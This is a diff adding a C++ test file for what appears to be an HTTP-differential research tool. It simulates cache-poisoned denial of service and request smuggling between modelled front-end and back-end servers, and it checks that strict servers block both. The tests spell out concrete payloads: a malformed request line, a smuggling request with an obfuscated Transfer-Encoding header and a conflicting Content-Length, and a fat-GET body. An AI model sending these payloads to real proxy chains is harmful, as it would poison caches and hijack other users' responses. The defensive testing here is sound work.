@@ -1,0 +1,117 @@
+#include "net/poison.h"
+
+#include <gtest/gtest.h>
+
+#include "impls/products.h"
+
+namespace hdiff::net {
+namespace {
+
+const std::string kVictim = "GET /?a=1 HTTP/1.1\r\nHost: h1.com\r\n\r\n";
+
+TEST(ResponseCacheTest, PutGetClear) {
+  ResponseCache cache;
+  EXPECT_FALSE(cache.get("k"));
+  cache.put("k", {400, "err"});
+  auto entry = cache.get("k");
+  ASSERT_TRUE(entry);
+  EXPECT_EQ(entry->status, 400);
+  cache.put("k", {200, "ok"});  // overwrite
+  EXPECT_EQ(cache.get("k")->status, 200);
+  cache.clear();
+  EXPECT_EQ(cache.size(), 0u);
+}
+
+TEST(CpdosEndGame, NginxVersionRepairPoisonsIis) {
+  auto nginx = impls::make_implementation("nginx");
+  auto iis = impls::make_implementation("iis");
+  // Attack: same resource, mangled version.  Victim: clean request.
+  CpdosDemo demo = demonstrate_cpdos(
+      *nginx, *iis, "GET /?a=1 1.1/HTTP\r\nHost: h1.com\r\n\r\n", kVictim);
+  EXPECT_TRUE(demo.exploitable) << demo.narrative;
+  EXPECT_GE(demo.poisoned_status, 400);
+  EXPECT_EQ(demo.victim_direct_status, 200);
+  EXPECT_EQ(demo.cache_key, "h1.com|/?a=1");
+}
+
+TEST(CpdosEndGame, AtsExpectForwardPoisonsLighttpd) {
+  auto ats = impls::make_implementation("ats");
+  auto lighttpd = impls::make_implementation("lighttpd");
+  CpdosDemo demo = demonstrate_cpdos(
+      *ats, *lighttpd,
+      "GET /?a=1 HTTP/1.1\r\nHost: h1.com\r\nExpect: 100-continue\r\n\r\n",
+      kVictim);
+  EXPECT_TRUE(demo.exploitable) << demo.narrative;
+  EXPECT_EQ(demo.poisoned_status, 417);
+}
+
+TEST(CpdosEndGame, ConformantFrontBlocksPoisoning) {
+  // Apache rejects the mangled version itself: no forward, no poison.
+  auto apache = impls::make_implementation("apache");
+  auto iis = impls::make_implementation("iis");
+  CpdosDemo demo = demonstrate_cpdos(
+      *apache, *iis, "GET /?a=1 1.1/HTTP\r\nHost: h1.com\r\n\r\n", kVictim);
+  EXPECT_FALSE(demo.exploitable);
+  EXPECT_NE(demo.narrative.find("front-end rejects"), std::string::npos);
+}
+
+TEST(CpdosEndGame, AcceptingBackendIsNotPoisonable) {
+  // Weblogic serves the mangled-version request — no error to cache.
+  auto nginx = impls::make_implementation("nginx");
+  auto weblogic = impls::make_implementation("weblogic");
+  CpdosDemo demo = demonstrate_cpdos(
+      *nginx, *weblogic, "GET /?a=1 1.1/HTTP\r\nHost: h1.com\r\n\r\n",
+      kVictim);
+  EXPECT_FALSE(demo.exploitable);
+  EXPECT_NE(demo.narrative.find("nothing to poison"), std::string::npos);
+}
+
+std::string smuggle_attack() {
+  std::string body = "0\r\n\r\nGET /evil HTTP/1.1\r\nHost: h1.com\r\n\r\n";
+  return "POST /upload HTTP/1.1\r\nHost: h1.com\r\n"
+         "Transfer-Encoding: \x0b" "chunked\r\n"
+         "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
+}
+
+TEST(SmuggleEndGame, AtsTomcatHijacksVictimResponse) {
+  auto ats = impls::make_implementation("ats");
+  auto tomcat = impls::make_implementation("tomcat");
+  SmuggleDemo demo =
+      demonstrate_smuggling(*ats, *tomcat, smuggle_attack(), kVictim);
+  EXPECT_TRUE(demo.exploitable) << demo.narrative;
+  EXPECT_EQ(demo.smuggled_target, "/evil");
+  EXPECT_EQ(demo.victim_target, "/?a=1");
+  EXPECT_EQ(demo.victim_answered_for, "/evil");
+}
+
+TEST(SmuggleEndGame, StrictBackendBreaksTheChain) {
+  auto ats = impls::make_implementation("ats");
+  auto apache = impls::make_implementation("apache");
+  SmuggleDemo demo =
+      demonstrate_smuggling(*ats, *apache, smuggle_attack(), kVictim);
+  EXPECT_FALSE(demo.exploitable) << demo.narrative;
+}
+
+TEST(SmuggleEndGame, ConformantFrontBreaksTheChain) {
+  auto apache = impls::make_implementation("apache");
+  auto tomcat = impls::make_implementation("tomcat");
+  SmuggleDemo demo =
+      demonstrate_smuggling(*apache, *tomcat, smuggle_attack(), kVictim);
+  EXPECT_FALSE(demo.exploitable) << demo.narrative;
+  EXPECT_NE(demo.narrative.find("front-end rejects"), std::string::npos);
+}
+
+TEST(SmuggleEndGame, FatGetAgainstWeblogic) {
+  // The fat-GET remainder also displaces the victim's request.
+  auto nginx = impls::make_implementation("nginx");
+  auto weblogic = impls::make_implementation("weblogic");
+  std::string fat =
+      "GET /evil HTTP/1.1\r\nHost: h1.com\r\nContent-Length: 31\r\n\r\n"
+      "GET /inner HTTP/1.1\r\nHost: h\r\n\r\n";
+  SmuggleDemo demo = demonstrate_smuggling(*nginx, *weblogic, fat, kVictim);
+  // Weblogic ignores the fat-GET body; those bytes lead the connection.
+  EXPECT_TRUE(demo.exploitable) << demo.narrative;
+}
+
+}  // namespace
+}  // namespace hdiff::net
